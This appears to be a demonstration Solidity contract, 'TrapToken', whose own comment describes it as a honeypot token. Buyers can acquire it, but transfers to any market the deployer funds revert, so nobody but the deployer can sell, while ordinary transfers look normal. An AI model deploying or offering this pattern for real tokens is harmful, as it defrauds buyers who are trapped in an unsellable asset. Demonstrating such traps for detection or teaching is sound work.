// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {DemoToken} from "demo-token";

/// A token that anyone can buy and nobody can sell: whatever its deployer transfers it to is a market, to which no one
/// else may transfer. Between other accounts it moves freely, so that it looks honest.
contract TrapToken is DemoToken {
  address private immutable deployer = msg.sender;
  mapping(address account => bool) private isMarket;

  error NotForSale();

  constructor() DemoToken("Demo Trap", "dTRAP", 18) {}

  function move(address from, address to, uint256 value) internal override {
    if (from == deployer) isMarket[to] = true;
    else if (isMarket[to]) revert NotForSale();
    super.move(from, to, value);
  }
}
